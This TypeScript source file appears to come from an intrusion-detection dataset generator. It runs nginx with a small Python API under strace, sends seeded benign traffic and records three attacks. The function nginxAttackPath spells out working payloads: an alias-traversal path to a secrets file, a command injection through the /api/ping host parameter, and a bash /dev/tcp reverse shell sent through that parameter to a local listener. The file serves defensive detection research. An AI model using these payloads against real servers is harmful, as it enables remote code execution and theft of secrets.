// The nginx scenario: nginx (foreground master, two workers) serving the static site and proxying /api/ to a small
// Python application, both started by one entrypoint and recorded together under strace -f, as LID-DS records a
// whole container. Real clients send a seeded mix of static requests (ranges, conditional GETs, keep-alive, 404s),
// aliased assets, stub_status and API calls. Attacks: `alias-traversal` (nginx's own: the off-by-slash alias lets
// /static../config/secrets.ini read the application's secrets; data-only: nginx opens one more file),
// `upstream-command-injection` (through nginx, /api/ping's host runs `id` in the application) and
// `upstream-reverse-shell` (the same injection starts bash connected to the attacker's listener on 127.0.0.1).

import path from "node:path";
import { HomeostatError } from "../errors.js";
import type { SeededRandom } from "../models/random.js";
import { leakProof, proofFile, SECRET_MARKER, shellProof } from "./attackProof.js";
import { type HttpAction, type HttpCall, httpMust } from "./httpClients.js";
import { type NginxPorts, writeNginxContainer } from "./nginxSite.js";
import { between, pick, planAttack, rngFor, weighted, word } from "./planning.js";
import { waitForPort } from "./readiness.js";
import { freePort } from "../demo/freePort.js";
import { openShellListener } from "./reverseShell.js";
import { startTraced, type TracedProgram } from "./straceRecorder.js";
import { cleanEnv, missingTools, sharedTmp, toolPath, toolVersion } from "./tools.js";
import type { AttackReport, RecordedRun, RecordingPlan, RecordingSpec, RecordingTarget, Scenario } from "./types.js";
import { describeHttp, singleClient, staticAction } from "./webRequests.js";

export const NGINX_ATTACKS = ["alias-traversal", "upstream-command-injection", "upstream-reverse-shell"] as const;

const PROFILE = { ranges: true, folderStatus: 403 };

/** A request to the application through nginx, or to nginx's own aliased assets and status page. */
function appCall(rng: SeededRandom): HttpCall {
  const json = { status: 200, contains: "{" };
  switch (
    weighted(rng, [
      ["status", 2],
      ["item", 4],
      ["search", 3],
      ["ping", 2],
      ["post", 2],
      ["asset", 3],
      ["stub", 1],
    ] as const)
  ) {
    case "status":
      return { method: "GET", path: "/api/status", expect: json };
    case "item": {
      const id = rng.next() < 0.85 ? between(rng, 1, 30) : between(rng, 500, 999);
      return { method: "GET", path: `/api/items?id=${id}`, expect: { status: id <= 30 ? 200 : 404, contains: "{" } };
    }
    case "search":
      return { method: "GET", path: `/api/search?q=${word(rng, 1, 3)}`, expect: json };
    case "ping":
      return {
        method: "GET",
        path: `/api/ping?host=${pick(rng, ["localhost", "127.0.0.1", "ip6-localhost"])}`,
        expect: json,
      };
    case "post":
      return { method: "POST", path: "/api/items", body: word(rng, 4, 12), expect: { status: 201, contains: "id" } };
    case "asset":
      return { method: "GET", path: pick(rng, ["/static/app.css", "/static/app.js"]), expect: { status: 200 } };
    case "stub":
      return { method: "GET", path: "/status", expect: { status: 200, contains: "Active connections" } };
  }
}

export function planNginx(spec: RecordingSpec): RecordingPlan<HttpAction> {
  const rng = rngFor(spec);
  const actions = Array.from({ length: spec.actions }, (): HttpAction =>
    rng.next() < 0.4 ? { client: singleClient(rng), calls: [appCall(rng)] } : staticAction(rng, PROFILE),
  );
  const attack = planAttack(spec);
  return { seed: spec.seed, actions, ...(attack !== undefined ? { attack } : {}) };
}

export function nginxAttackPath(kind: string, proof: string, port: number): string {
  switch (kind) {
    case "alias-traversal":
      return "/static../config/secrets.ini";
    case "upstream-command-injection":
      return `/api/ping?host=${encodeURIComponent(`localhost; id > ${proof}`)}`;
    case "upstream-reverse-shell":
      return `/api/ping?host=${encodeURIComponent(`localhost; bash -c "bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1"`)}`;
    default:
      throw new HomeostatError("E_USAGE", `unknown nginx attack ${kind}`);
  }
}

async function nginxAttack(kind: string, port: number, workDir: string): Promise<AttackReport> {
  const proof = path.join(sharedTmp(workDir), "proof.txt");
  const listener = kind === "upstream-reverse-shell" ? await openShellListener() : undefined;
  try {
    const p = nginxAttackPath(kind, proof, listener?.port ?? 0);
    const time = Date.now() / 1000;
    const [r] = await httpMust(port, { client: "curl", calls: [{ method: "GET", path: p, expect: { status: 200 } }] });
    const report = (evidence: string, dataOnly: boolean): AttackReport => ({
      kind,
      time,
      command: `GET ${p}`,
      evidence,
      dataOnly,
    });
    if (kind === "alias-traversal") return report(leakProof(r!.body.toString(), SECRET_MARKER, kind), true);
    if (listener !== undefined) return report(shellProof(await listener.transcript, kind), false);
    return report(proofFile(proof, kind), false);
  } finally {
    listener?.close();
  }
}

async function startContainer(target: RecordingTarget): Promise<{ traced: TracedProgram; ports: NginxPorts }> {
  const nginx = await freePort();
  const app = await freePort();
  const ports = { nginx, app };
  const tools = { nginx: toolPath("nginx")!, python: toolPath("python3")! };
  const { entry } = writeNginxContainer(target.workDir, ports, tools);
  const traced = startTraced(target.groups, {
    tracePath: target.tracePath,
    command: ["/bin/sh", entry],
    cwd: target.workDir,
    env: cleanEnv(target.workDir),
  });
  await waitForPort(ports.app, traced.child, "the nginx scenario's application");
  await waitForPort(ports.nginx, traced.child, "nginx");
  return { traced, ports };
}

async function recordNginx(plan: RecordingPlan<HttpAction>, target: RecordingTarget): Promise<RecordedRun> {
  const started = Date.now() / 1000;
  let attack: AttackReport | undefined;
  try {
    const { traced, ports } = await startContainer(target);
    for (let i = 0; i < plan.actions.length; i++) {
      if (plan.attack?.at === i) attack = await nginxAttack(plan.attack.kind, ports.nginx, target.workDir);
      await httpMust(ports.nginx, plan.actions[i]!);
    }
    traced.signalTracees("SIGTERM");
    await traced.finish();
  } finally {
    target.groups.killAll();
  }
  return { started, ended: Date.now() / 1000, ...(attack !== undefined ? { attack } : {}) };
}

export const nginxScenario: Scenario<HttpAction> = {
  name: "nginx",
  attacks: NGINX_ATTACKS,
  dataOnlyAttacks: ["alias-traversal"],
  defaultActions: 36,
  unavailable: () => missingTools(["nginx", "python3", "curl", "wget", "bash"]),
  image: () => `nginx/${toolVersion(toolPath("nginx") ?? "nginx", ["-v"], /nginx\/(\S+)/)}`,
  plan: planNginx,
  describe: describeHttp,
  prepare: async () => ({ record: recordNginx, close: async () => {} }),
};
